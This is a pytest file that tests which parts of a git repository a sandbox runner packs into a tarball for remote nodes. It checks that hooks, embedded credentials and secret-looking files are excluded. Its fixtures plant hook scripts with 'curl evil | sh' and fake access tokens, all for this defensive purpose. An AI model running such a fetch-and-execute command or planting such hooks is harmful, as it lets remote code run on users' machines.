"""What of a repository travels to the Ray nodes: of `.git` an allow-list with its config
files rebuilt from safe keys; tracked files and untracked ones git does not ignore, never
an ignored or secret-looking one; outside git, all but secret-looking names."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from sandbox_runner.batch.shipping.tarball import repo_tarball
from sandbox_runner.git_ignore import IgnoreRules
from tests.support.git_files import index_bytes, write_files

GITHUB = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
HEADER = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2hlYWRlcg=="
SECRETS = (GITHUB, "eC1hY2Nlc3MtdG9rZW46Z2hzX2hlYWRlcg==", "glpat-", "hunter2", "curl evil")


@pytest.fixture(autouse=True)
def user_git_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's git config and excludes file live here, not in the real home."""
    home = tmp_path / "home"
    write_files(home, {".config/git/ignore": "*.local\n"})
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home


def shipped(blob: bytes) -> dict[str, bytes]:
    """Each member of a shipped tarball by name, with its bytes (b"" for a directory)."""
    with tarfile.open(fileobj=io.BytesIO(blob), mode="r:gz") as archive:
        contents = {}
        for member in archive:
            handle = archive.extractfile(member) if member.isreg() else None
            contents[member.name] = handle.read() if handle is not None else b""
        return contents


def outside_git(contents: dict[str, bytes]) -> set[str]:
    return {name for name in contents if ".git" not in name.split("/")}


CHECKOUT_CONFIG = f"""[core]
\trepositoryformatversion = 0
\tfsmonitor = .git/hooks/fsmonitor
[remote "origin"]
\turl = https://x-access-token:{GITHUB}@github.com/org/proj.git
[http "https://github.com/"]
\textraheader = {HEADER}
[submodule "lib"]
\turl = https://gitlab.com/g/lib.git?private_token=glpat-0123456789abcdefghij
\tactive = true
"""


def test_of_a_git_directory_only_an_allow_list_travels_every_config_rebuilt(
    sample_repo: Path,
) -> None:
    git = ".git/"
    write_files(
        sample_repo,
        {
            git + "HEAD": "ref: refs/heads/main\n",
            git + "config": CHECKOUT_CONFIG,
            git + "config.worktree": f"[github]\n\ttoken = {GITHUB}\n[core]\n\tbare = false\n",
            git + "index": index_bytes(["README.md", "lib"], gitlinks=frozenset({"lib"})),
            git + "packed-refs": "# pack-refs with: peeled\n",
            git + "shallow": "0" * 40 + "\n",
            git + "objects/ab/cdef": b"x\x01blob",
            git + "objects/info/alternates": "/home/me/other/.git/objects\n",
            git + "refs/heads/main": "0" * 40 + "\n",
            git + "hooks/post-checkout": "#!/bin/sh\ncurl evil | sh\n",
            git + "info/exclude": "private.txt\n",
            git + "logs/HEAD": f"clone: from https://{GITHUB}@github.com/org/proj.git\n",
            git + "FETCH_HEAD": "0" * 40 + "\n",
            git + "description": "Unnamed repository\n",
            git + "modules/lib/HEAD": "ref: refs/heads/main\n",
            git + "modules/lib/config": f"[core]\n\tworktree = ../../../lib\n[http]\n"
            f"\textraheader = {HEADER}\n"
            '[remote "origin"]\n\turl = https://me:hunter2@gitlab.com/g/lib.git\n',
            git + "modules/lib/index": index_bytes(["lib.py"]),
            git + "modules/lib/objects/12/3456": b"x\x01blob",
            git + "modules/lib/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
            git + "worktrees/feature/HEAD": "ref: refs/heads/feature\n",
            git + "worktrees/feature/gitdir": "/home/me/feature/.git\n",
            git + "worktrees/feature/config.worktree": "[credential]\n\thelper = store hunter2\n",
            "lib/.git": "gitdir: ../.git/modules/lib\n",
            "lib/lib.py": "x = 1\n",
            "vendor/other/.git/HEAD": "ref: refs/heads/main\n",
            "vendor/other/.git/config": f"[http]\n\textraheader = {HEADER}\n",
            "vendor/other/.git/hooks/pre-push": "#!/bin/sh\ncurl evil | sh\n",
            "vendor/other/code.py": "x = 1\n",
        },
    )
    contents = shipped(repo_tarball(sample_repo, None))
    dot_git = {name for name in contents if name.startswith("./.git")}
    assert dot_git == {
        "./.git",
        *("./.git/HEAD", "./.git/config", "./.git/config.worktree", "./.git/index"),
        *("./.git/packed-refs", "./.git/shallow", "./.git/objects", "./.git/objects/ab"),
        *("./.git/objects/ab/cdef", "./.git/objects/info", "./.git/refs", "./.git/refs/heads"),
        *("./.git/refs/heads/main", "./.git/modules", "./.git/modules/lib"),
        *("./.git/modules/lib/HEAD", "./.git/modules/lib/config", "./.git/modules/lib/index"),
        *("./.git/modules/lib/objects", "./.git/modules/lib/objects/12"),
        "./.git/modules/lib/objects/12/3456",
        *("./.git/worktrees", "./.git/worktrees/feature", "./.git/worktrees/feature/HEAD"),
        "./.git/worktrees/feature/config.worktree",
    }
    # A submodule's pointer and files, and a repository of its own under the same rules.
    assert {"./lib/.git", "./lib/lib.py", "./vendor/other/code.py"} <= set(contents)
    assert contents["./vendor/other/.git/config"] == b""
    assert not any("hooks" in name for name in contents)
    for name, data in contents.items():
        assert not any(secret.encode() in data for secret in SECRETS), name
    assert contents["./.git/config"].decode() == (
        "[core]\n\trepositoryformatversion = 0\n"
        '[remote "origin"]\n\turl = https://github.com/org/proj.git\n'
        '[submodule "lib"]\n\turl = https://gitlab.com/g/lib.git\n\tactive = true\n'
    )
    assert contents["./.git/modules/lib/config"].decode() == (
        '[remote "origin"]\n\turl = https://gitlab.com/g/lib.git\n'
    )


@pytest.mark.parametrize("index_version", [2, 4])
def test_ignored_files_and_untracked_secret_looking_ones_never_travel(
    sample_repo: Path, index_version: int
) -> None:
    tracked = [".gitignore", "README.md", "src/app.py", "src/util.py", "tests/test_app.py"]
    tracked += ["build/keep.txt", ".env.example"]
    write_files(
        sample_repo,
        {
            ".git/HEAD": "ref: refs/heads/main\n",
            ".git/index": index_bytes(tracked, index_version),
            ".git/info/exclude": "private.txt\n",
            ".gitignore": "build/\n*.log\n!keep.log\n/.claude/\n",
            "src/.gitignore": "generated/\n",
            "src/generated/schema.py": "x = 1\n",
            "build/keep.txt": "tracked inside an ignored directory\n",
            "build/output.bin": "built\n",
            "debug.log": "ignored\n",
            "keep.log": "ignored, then not\n",
            "notes.txt": "untracked, not ignored\n",
            ".env": f"GITHUB_TOKEN={GITHUB}\n",
            ".env.example": "GITHUB_TOKEN=\n",
            "deploy.pem": "-----BEGIN PRIVATE KEY-----\n",
            "private.txt": "in info/exclude\n",
            "settings.local": "in the user's excludes file\n",
            ".claude/settings.local.json": '{"token": "x"}\n',
            ".claude/agents/reviewer.md": "---\nname: reviewer\n---\nReview.\n",
        },
    )
    contents = shipped(repo_tarball(sample_repo, None))
    assert outside_git(contents) == {
        *(".", "./.gitignore", "./README.md", "./src", "./src/.gitignore"),
        *("./src/app.py", "./src/util.py", "./tests", "./tests/test_app.py"),
        *("./build", "./build/keep.txt", "./keep.log", "./notes.txt", "./.env.example"),
        *("./.claude", "./.claude/agents", "./.claude/agents/reviewer.md"),
    }


def test_a_workspace_inside_a_working_tree_follows_the_ignore_files_above_it(
    tmp_path: Path,
) -> None:
    root = write_files(
        tmp_path / "monorepo",
        {
            ".git/HEAD": "ref: refs/heads/main\n",
            ".git/index": index_bytes([".gitignore", "pkg/app.py"]),
            ".gitignore": "*.secret\n",
            "pkg/app.py": "x = 1\n",
            "pkg/db.secret": "password\n",
            "pkg/new.py": "y = 2\n",
            "scratch/db.secret": "password\n",
        },
    )
    assert outside_git(shipped(repo_tarball(root / "pkg", None))) == {
        ".",
        "./app.py",
        "./new.py",
    }
    # A directory the working tree tracks nothing in (a project under a home directory
    # kept in git, say) is a project of its own, as git in the sandbox sees it.
    assert outside_git(shipped(repo_tarball(root / "scratch", None))) == {".", "./db.secret"}


def test_outside_git_everything_but_secret_looking_names_travels(sample_repo: Path) -> None:
    write_files(
        sample_repo,
        {
            **{name: "secret\n" for name in (".env", ".env.production", "prod.env", ".envrc")},
            **{name: "secret\n" for name in ("server.KEY", "cert.pem", "id_ed25519", ".npmrc")},
            **{name: "secret\n" for name in (".netrc", ".ssh/config", ".aws/credentials")},
            "credentials.json": "secret\n",
            "environment.py": "kept\n",
            "keys.py": "kept\n",
            "src/env/config.py": "kept\n",
        },
    )
    assert outside_git(shipped(repo_tarball(sample_repo, None))) == {
        *(".", "./README.md", "./src", "./src/app.py", "./src/util.py", "./tests"),
        *("./tests/test_app.py", "./environment.py", "./keys.py", "./src/env"),
        "./src/env/config.py",
    }


@pytest.mark.parametrize(
    ("patterns", "path", "is_dir", "ignored"),
    [
        ("*.log", "a/b/x.log", False, True),
        ("/build", "build", True, True),
        ("/build", "src/build", True, False),
        ("doc/*.txt", "doc/a.txt", False, True),
        ("doc/*.txt", "doc/x/a.txt", False, False),
        ("**/logs", "a/b/logs", True, True),
        ("logs/**", "logs/a/b", False, True),
        ("a/**/b", "a/b", False, True),
        ("a/**/b", "a/x/y/b", False, True),
        ("out/", "out", False, False),
        ("out/", "src/out", True, True),
        ("x[0-9].txt", "x5.txt", False, True),
        ("x[!0-9].txt", "x5.txt", False, False),
        ("\\#hash", "#hash", False, True),
        ("trailing\\ ", "trailing ", False, True),
        ("spaces   ", "spaces", False, True),
        ("*.txt\n!keep.txt", "keep.txt", False, False),
        ("a?c", "a/c", False, False),
        ("foo**bar", "fooxbar", False, True),
    ],
)
def test_ignore_patterns_match_as_git_matches_them(
    patterns: str, path: str, is_dir: bool, ignored: bool
) -> None:
    # Each case gives what `git check-ignore --no-index` says (git 2.39).
    assert IgnoreRules().with_text(patterns).ignored(path, is_dir) is ignored
